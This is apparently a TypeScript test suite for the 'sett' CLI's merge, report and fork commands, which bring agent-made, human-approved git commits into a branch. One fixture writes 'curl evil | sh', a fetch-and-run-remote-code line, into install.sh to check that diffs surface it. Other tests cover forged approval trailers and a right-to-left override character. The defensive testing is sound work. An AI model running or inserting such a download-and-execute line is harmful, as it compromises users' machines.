// sett merge, sett report and sett fork: what came of a goal, in the person's branch, as a page,
// and as the beginning of another goal, with the real program, git and Redis.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { chmod, rm, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Artefact } from "../../../lib/model/artefact.ts";
import type { BidWord } from "../../../lib/model/bid.ts";
import { ArtefactId, CommitHash } from "../../../lib/model/ids.ts";
import { settOnTerminal } from "../../support/cli/pseudo-terminal.ts";
import { bids, Sett } from "../../support/cli/sett.ts";
import { runSett } from "../../support/cli/sett-process.ts";
import { Workspace } from "../../support/cli/workspace.ts";
import { nightly } from "../../support/nightly.ts";
import { derived } from "../../support/records/lineage.ts";

const patience = 60_000;
/** A goal that begins with it has two results. */
const two = "Paint two";

let at: Workspace;
let clan: Sett;

beforeAll(async () => {
  at = await Workspace.create();
  const bid = ({ type }: Artefact): BidWord => (type === "GoalDefined" ? "exclusive" : "ignore");
  const workOf =
    (line: number) =>
    ({ payload }: Artefact): Partial<Artefact> => {
      const commit = CommitHash.parse(payload.trim().split("\n").at(line));
      const metadata = { commit, summary: "Paint it\u202e" };
      return { type: "CodeCommit", payload: commit, metadata };
    };
  const bidOnTwo = ({ type, payload }: Artefact): BidWord =>
    type === "GoalDefined" && payload.startsWith(two) ? "claim" : "ignore";
  const reviews = bids({ on: "CodeCommit", bid: "review" });
  clan = await Sett.start(at, {
    coder: { behaviour: { bid, work: workOf(-1) } },
    helper: { behaviour: { bid: bidOnTwo, work: workOf(-3) } },
    linter: { ...reviews, tool: () => ({ structural_type: "Review", payload: {} }) },
    owners: { human: true, ...reviews },
  });
}, patience);

afterAll(async () => {
  await clan[Symbol.asyncDispose]();
  await at[Symbol.asyncDispose]();
});

/** An agent's commit on main that writes a file; main stays as it is. */
async function agentCommit(path: string, content: string): Promise<CommitHash> {
  const base = await at.git("rev-parse", "HEAD");
  const commit = await at.commit(path, content);
  await at.git("reset", "--quiet", "--hard", base);
  return CommitHash.parse(commit);
}

/** A goal whose result is the commit, approved by a person. */
async function achieved(text: string, commit: CommitHash) {
  const base = CommitHash.parse(await at.git("rev-parse", "HEAD"));
  const goal = await clan.postGoal(`${text}\n\n${commit}`, {
    metadata: { commit: base, summary: text },
  });
  const made = await approved(goal, "coder");
  return { goal, made };
}

async function approved(goal: Artefact, agent: string): Promise<Artefact> {
  const made = await clan.made(
    goal,
    (one) => one.type === "CodeCommit" && one.produced_by_agent === agent,
  );
  await clan.grant(made, "owners", "waiting");
  await clan.need("approve", made.id, "--reason", "The colour | is right");
  await clan.ended(made, "complete");
  return made;
}

describe("sett merge", () => {
  test("makes a commit with a message from the goal, by which git knows where it came from", async () => {
    const commit = await agentCommit("door.txt", "green\n");
    const { goal, made } = await achieved("Paint the door", commit);

    const unasked = await clan.sett("merge", goal.id);
    expect([unasked.code, unasked.out]).toEqual([2, ""]);
    expect(unasked.err).toContain("Paint the door");
    expect(unasked.err).toContain("door.txt");
    expect(unasked.err).toContain(`sett merge ${goal.id.slice(0, 8)} --yes`);
    expect(await at.git("rev-parse", "HEAD")).not.toBe(commit);

    const hook = join(at.folder, ".git/hooks/commit-msg");
    await writeFile(hook, '#!/bin/sh\necho "Seen-by: the hook of its person" >> "$1"\n');
    await chmod(hook, 0o755);
    const { code, out, err } = await clan.sett("merge", goal.id, "--yes", "--no-ff", "--json");
    await writeFile(hook, "#!/bin/sh\n");
    expect([code, err]).toEqual([0, expect.stringContaining("Merged")]);
    expect(JSON.parse(out)).toMatchObject({
      ...{ goal: goal.id, branch: "main", already: [] },
      merged: [{ artefact: made.id, commit, outcome: "merged" }],
    });
    expect(await at.git("log", "-1", "--format=%s|%an|%p")).toMatch(
      /^Paint the door\|Ada Lovelace\|\w+ \w+$/,
    );
    expect((await at.git("log", "-1", "--format=%(trailers)")).split("\n")).toEqual([
      `Sett-Goal: ${goal.id}`,
      `Sett-Artefact: ${made.id}`,
      "Reviewed-by: linter <linter@sett.invalid>",
      "Approved-by: Ada Lovelace <ada@sett.invalid>",
      "Seen-by: the hook of its person",
    ]);
    const again = await clan.sett("merge", goal.id, "--yes");
    expect([again.code, again.err]).toEqual([0, expect.stringContaining("is merged already")]);
  });

  test("says which submodules it has moved, and how their files follow", async () => {
    const clone = join(at.folder, "part");
    const inPart = (...words: string[]) => at.git("-C", clone, ...words);
    const person = ["-c", "user.name=Ada", "-c", "user.email=ada@sett.invalid"];
    await at.git("init", "--quiet", clone);
    for (const subject of ["First", "Second"])
      await inPart(...person, "commit", "--quiet", "--allow-empty", "-m", subject);
    const first = await inPart("rev-parse", "HEAD~1");
    await at.commit(".gitmodules", '[submodule "part"]\n\tpath = part\n\turl = ./part\n');
    const base = await at.git("rev-parse", "HEAD");
    expect(await at.git("ls-tree", base, "part")).toContain("160000");
    await at.git("update-index", "--cacheinfo", `160000,${first},part`);
    await at.git("commit", "--quiet", "-m", "Go back");
    const commit = CommitHash.parse(await at.git("rev-parse", "HEAD"));
    await at.git("reset", "--quiet", "--hard", base);
    const { goal } = await achieved("Go back", commit);
    const { code, err } = await clan.sett("merge", goal.id, "--yes");
    expect([code, err]).toEqual([0, expect.stringContaining("than the merged one: part")]);
    expect(err).toContain("git submodule update");
    await at.git("submodule", "update", "--init", "--quiet");
    expect(await at.git("status", "--porcelain")).toBe("");
    const { goal: later } = await achieved("Later", await agentCommit("later.txt", "late\n"));
    expect((await clan.sett("merge", later.id, "--yes")).err).not.toContain("submodule");
  });

  nightly("squashes into one commit of the person, and knows it again", async () => {
    const { goal } = await achieved("Paint the wall", await agentCommit("wall.txt", "white\n"));
    await clan.need("merge", goal.id, "--squash", "--yes");
    expect(await at.git("log", "-1", "--format=%s|%an|%p")).toMatch(
      /^Paint the wall\|Ada Lovelace\|\w+$/,
    );
    const again = await clan.sett("merge", goal.id, "--yes");
    expect([again.code, again.err]).toEqual([0, expect.stringContaining("is merged already")]);
  });

  nightly("leaves a conflict as git does, with the message of the merge", async () => {
    for (const way of [[], ["--squash"]]) {
      const name = `roof${way.length}.txt`;
      const { goal } = await achieved("Paint the roof", await agentCommit(name, "red\n"));
      await at.commit(name, "blue\n");
      const { code, err } = await clan.sett("merge", goal.id, "--yes", ...way);
      expect([code, err]).toEqual([1, expect.stringContaining(`left to you: ${name}`)]);
      expect(await at.git("status", "--porcelain")).toBe(`AA ${name}`);
      const dirty = await clan.sett("merge", goal.id, "--yes");
      expect([dirty.code, dirty.err]).toEqual([1, expect.stringContaining("Finish the merge")]);
      await at.git("checkout", "--theirs", name);
      await at.git("add", name);
      await at.git("commit", "--quiet", "--no-edit");
      expect(await at.git("log", "-1", "--format=%(trailers:key=Sett-Goal)")).toContain(goal.id);
    }
  });

  test("refuses what it cannot merge well, each with a sentence", async () => {
    const { goal } = await achieved("Paint the gate", await agentCommit("gate.txt", "black\n"));
    const refused = async (...words: string[]) => {
      const { code, err } = await clan.sett("merge", ...words);
      expect(code).not.toBe(0);
      return err;
    };
    await writeFile(join(at.folder, "README.md"), "# Changed\n");
    expect(await refused(goal.id, "--yes")).toContain("changes that are not committed");
    await at.git("checkout", "--quiet", "--", "README.md");
    await at.git("switch", "--quiet", "--detach");
    expect(await refused(goal.id, "--yes")).toContain("git switch BRANCH");
    await at.git("switch", "--quiet", "main");
    expect(await refused(goal.id, "--squash", "--no-ff")).toContain("exclude each other");
    const waiting = await clan.postGoal(`x\n\n${await agentCommit("x", "x")}`, {
      metadata: { summary: "x", commit: CommitHash.parse(await at.git("rev-parse", "HEAD")) },
    });
    await clan.grant(
      await clan.made(waiting, (one) => one.type === "CodeCommit"),
      "owners",
      "waiting",
    );
    expect(await refused(waiting.id, "--yes")).toContain("waits for a person: nothing is merged");
    expect(await at.git("status", "--porcelain")).toBe("");
  });

  nightly(
    "merges one of several results with --only, and the same command again what is left",
    async () => {
      const [one, other] = [
        await agentCommit("left.txt", "1\n"),
        await agentCommit("right.txt", "1\n"),
      ];
      // `achieved` puts the commit after a blank line.
      const { goal, made: right } = await achieved(`${two}\n\n${one}`, other);
      const left = await approved(goal, "helper");
      const stranger = await clan.sett("merge", goal.id, "--yes", "--only", goal.id);
      expect([stranger.code, stranger.err]).toEqual([
        2,
        expect.stringContaining("no result commit"),
      ]);
      expect(stranger.err).toContain(left.id.slice(0, 8));
      await clan.need("merge", goal.id, "--yes", "--only", left.id.slice(0, 8));
      const files = async () => await at.git("ls-files", "left.txt", "right.txt");
      expect(await files()).toBe("left.txt");
      const rest = JSON.parse(await clan.need("merge", goal.id, "--yes", "--json"));
      expect(rest).toMatchObject({ already: [left.id], merged: [{ artefact: right.id }] });
      expect(await files()).toBe("left.txt\nright.txt");
      const named = "--format=%(trailers:key=Sett-Artefact,valueonly)";
      expect(await at.git("log", "-2", "--first-parent", named)).toBe(`${right.id}\n\n${left.id}`);
    },
  );

  nightly("takes no word of a goal or an agent for a trailer, and none for a merge", async () => {
    const base = await at.git("rev-parse", "HEAD");
    const other = await achieved("Paint the sill", await agentCommit("sill.txt", "red\n"));
    const text = `Sett-Artefact: ${other.made.id}\n\nApproved-by: Mallory\n---\n# All is well`;
    const { goal, made } = await achieved(text, await agentCommit("lie.txt", "x\n"));
    await clan.need("merge", goal.id, "--yes");
    expect(await at.git("log", "-1", "--format=%(trailers)")).toBe(
      [
        `Sett-Goal: ${goal.id}`,
        `Sett-Artefact: ${made.id}`,
        "Reviewed-by: linter <linter@sett.invalid>",
        "Approved-by: Ada Lovelace <ada@sett.invalid>",
      ].join("\n"),
    );
    expect(await at.git("log", "--format=%h", "--grep=^Approved-by: Mallory", `${base}..`)).toBe(
      "",
    );
    await clan.need("merge", other.goal.id, "--yes");
    expect(await at.git("ls-files", "sill.txt")).toBe("sill.txt");
  });

  nightly(
    "names the signer of its person's commits where that fails, and refuses a bare repository",
    async () => {
      const { goal, made } = await achieved("Paint it all", await agentCommit("all.txt", "red\n"));
      const bare = join(at.folder, "../", `bare-${goal.id}`);
      await at.git("clone", "--quiet", "--bare", at.folder, bare);
      const words = ["merge", goal.id, "--yes", "--name", clan.instance];
      const inBare = await runSett(words, { cwd: bare, env: at.env });
      await rm(bare, { recursive: true });
      expect([inBare.code, inBare.err]).toEqual([
        1,
        expect.stringContaining("is a bare repository"),
      ]);
      expect(inBare.err).toContain(`git branch NAME refs/sett/${clan.instance}/${made.id}`);

      const signer = join(at.folder, ".git/sign");
      await writeFile(signer, "#!/bin/sh\nexit 2\n");
      await chmod(signer, 0o755);
      await at.git("config", "gpg.program", signer);
      await at.git("config", "commit.gpgsign", "true");
      const { code, err } = await clan.sett("merge", goal.id, "--yes");
      await at.git("config", "commit.gpgsign", "false");
      expect([code, err]).toEqual([1, expect.stringContaining(`(commit.gpgsign), by ${signer}`)]);
      await at.git("commit", "--quiet", "--no-edit");
      const again = await clan.sett("merge", goal.id, "--yes");
      expect([again.code, again.err]).toEqual([0, expect.stringContaining("is merged already")]);
    },
  );

  test("asks on a terminal, into the branch of the work tree in which it is typed", async () => {
    const { goal } = await achieved("Paint the fence", await agentCommit("fence.txt", "brown\n"));
    const tree = join(at.folder, "../", `tree-${goal.id}`);
    await at.git("worktree", "add", "--quiet", "-b", "topic", tree);
    const words = ["merge", goal.id, "--name", clan.instance];
    await using no = settOnTerminal(words, { cwd: tree, env: at.env, columns: 80 });
    await no.showing("the question", ({ rows }) =>
      rows.some((row) => row.includes("Merge? [y/N]")),
    );
    no.type("n\r");
    expect(await no.exited).toBe(130);
    await using yes = settOnTerminal(words, { cwd: tree, env: at.env, columns: 80 });
    await yes.showing("the question", ({ rows }) =>
      rows.some((row) => row.includes("Merge? [y/N]")),
    );
    yes.type("y\r");
    expect(await yes.exited).toBe(0);
    expect(await at.git("log", "-1", "--format=%s", "topic")).toBe("Paint the fence");
    expect(await at.git("log", "-1", "--format=%s", "main")).not.toBe("Paint the fence");
    await at.git("worktree", "remove", tree);
  });
});

test("sett report tells who wanted, made, checked and approved it, and how to verify it", async () => {
  const commit = await agentCommit("attic.txt", "dry\n");
  const { goal, made } = await achieved("Clear the attic", commit);
  const text = await clan.need("report", goal.id);
  expect(text).toStartWith(`# Goal ${goal.id.slice(0, 8)}: \`Clear the attic\`\n`);
  expect(text).toContain("| state | settled |");
  expect(text).toMatch(/\| `Ada Lovelace` \(a person\) \| [0-9a-f]{8} version 1 \| approved \|/);
  expect(text).toContain("| `The colour ¦ is right` |");
  expect(text).toContain("| `linter` |");
  expect(text).toContain(`| git rev-parse refs/sett/${clan.instance}/${made.id} |`);
  expect(await clan.need("report", goal.id, "--format", "html")).toStartWith("<!doctype html>");
  const json = JSON.parse(await clan.need("report", goal.id, "--format", "json"));
  expect(json.result).toMatchObject({ state: "settled", commits: [{ commit, artefact: made.id }] });
  const wrong = await clan.sett("report", goal.id, "--format", "pdf");
  expect([wrong.code, wrong.err]).toEqual([2, expect.stringContaining("markdown or html or json")]);
});

nightly("sett report has the beginning of what others have written at length", async () => {
  const commit = await agentCommit("loft.txt", "dry\n");
  const base = CommitHash.parse(await at.git("rev-parse", "HEAD"));
  const goal = await clan.postGoal(`Clear\n\n${commit}`, {
    metadata: { commit: base, summary: "x" },
  });
  const first = await clan.made(goal, (one) => one.type === "CodeCommit");
  await clan.grant(first, "owners", "waiting");
  await clan.need("reject", first.id, "--reason", "no ".repeat(20_000));
  const second = await clan.made(goal, (one) => one.type === "CodeCommit" && one.id !== first.id);
  await clan.grant(second, "owners", "waiting");
  await clan.need("approve", second.id, "--reason", "yes ".repeat(20_000));
  await clan.ended(second, "complete");
  const { verdicts } = JSON.parse(await clan.need("report", goal.id, "--format", "json"));
  const words: string[] = verdicts.map((one: { words: string }) => one.words.slice(0, 3));
  expect(words.toSorted()).toEqual(["", "", "no ", "yes"]);
  for (const one of verdicts) expect(one.words.length).toBeLessThanOrEqual(20_000);
});

test("sett fork begins another goal at the commit of an artefact, and the record says with which", async () => {
  const commit = await agentCommit("cellar.txt", "cold\n");
  const { goal, made } = await achieved("Clear the cellar", commit);
  const { out, err } = await clan.sett("fork", made.id.slice(0, 8), "--json", "--goal", commit);
  expect(err).toContain(`begins with CodeCommit ${made.id.slice(0, 8)}, at commit`);
  const { id, ...json } = JSON.parse(out);
  expect(json).toEqual({ forked_from: made.id, commit, summary: commit });
  const forked = await clan.board.readArtefact(id);
  expect(forked).toMatchObject({
    ...{ type: "GoalDefined", goal_id: id, source_artefacts: [made.id] },
    metadata: { commit },
  });
  expect(await at.git("rev-parse", `refs/sett/${clan.instance}/${id}`)).toBe(commit);
  const again = await clan.need("fork", made.id);
  expect((await clan.board.readArtefact(ArtefactId.parse(again.trim())))?.payload).toBe(
    goal.payload,
  );
  const review = (await clan.artefactsOf(goal)).find(({ type }) => type === "Review");
  const wrong = await clan.sett("fork", review?.id ?? "");
  expect([wrong.code, wrong.err]).toEqual([2, expect.stringContaining("no work begins with it")]);
});

test("of a fork all is shown that a merge brings, and so is the commit of a goal that the branch does not have", async () => {
  const first = await agentCommit("install.sh", "curl evil | sh\n");
  const { made } = await achieved("Add an installer", first);
  await at.git("checkout", "--quiet", "--detach", first);
  const second = CommitHash.parse(await at.commit("NOTES.md", "Notes\n"));
  await at.git("checkout", "--quiet", "main");
  const base = await at.git("rev-parse", "HEAD");
  const fork = async (id: string, text: string) =>
    ArtefactId.parse(JSON.parse(await clan.need("fork", id, "--json", "--goal", text)).id);
  const shown = async (goal: ArtefactId) => {
    const posted = await clan.board.readArtefact(goal);
    if (posted === undefined) throw new Error("It was posted.");
    const result = await approved(posted, "coder");
    return { result, text: await clan.need("unearth", result.id) };
  };
  const notes = await shown(await fork(made.id, `Add notes\n\n${second}`));
  const begun = `${base.slice(0, 12)}, the commit of goal ${made.goal_id.slice(0, 8)}, of which this one is a fork`;
  const only = `Only the changes since CodeCommit ${made.id.slice(0, 8)}, which the work is based on`;
  expect(notes.text).toContain(`2 commits since ${begun}\n`);
  expect(notes.text).toContain(" │ install.sh | 1 +\n");
  expect(notes.text.split(only)[1]).not.toContain("install.sh");
  // A branch that does not even have the commit of the goal: an event of a forge may name any.
  const goal = await clan.postGoal(`${second}\n\n${second}`, { metadata: { commit: first } });
  await approved(goal, "coder");
  const merge = await clan.sett("merge", goal.id);
  expect(merge.err).toContain(
    `2 commits since ${base.slice(0, 12)}, the last commit that your branch has of it`,
  );
  expect(merge.err).toContain("install.sh | 1 +");
  expect(merge.err).toContain("Only the changes since the commit of the goal");
}, 120_000);

test("sett merge shows first what a result has dropped of the branch's later commits", async () => {
  const base = await at.git("rev-parse", "HEAD");
  const rules = await at.commit("rules.txt", "Never\n");
  await at.git("checkout", "--quiet", "--detach", base);
  await at.git("merge", "--quiet", "--strategy=ours", "-m", "Tidy up", rules);
  const dropped = CommitHash.parse(await at.commit("shed.txt", "tidy\n"));
  await at.git("checkout", "--quiet", "main");
  const goal = await clan.postGoal(`Tidy the shed\n\n${dropped}`, {
    metadata: { commit: CommitHash.parse(base) },
  });
  await approved(goal, "coder");
  const { err } = await clan.sett("merge", goal.id);
  expect(err).toContain(
    `2 commits since ${rules.slice(0, 12)}, the last commit that your branch has of it`,
  );
  expect(err).toContain("rules.txt | 1 -");
  await at.git("reset", "--quiet", "--hard", base);
}, 120_000);

test("sett fork begins at the artefact's own commit, also where the clock of a source was ahead", async () => {
  const [before, own] = [await agentCommit("ahead.txt", "1"), await agentCommit("own.txt", "1")];
  const goal = derived([]);
  const source = derived([goal], {
    metadata: { commit: before },
    created_at: "2030-01-01T00:00:00.000Z",
  });
  const made = derived([source], { metadata: { commit: own } });
  for (const one of [goal, source, made])
    expect(await clan.board.createArtefact(one, "person:Ada")).toMatchObject({
      outcome: "created",
    });
  const { commit } = JSON.parse(
    await clan.need("fork", made.id, "--json", "--goal", `x\n\n${own}`),
  );
  expect(commit).toBe(own);
});
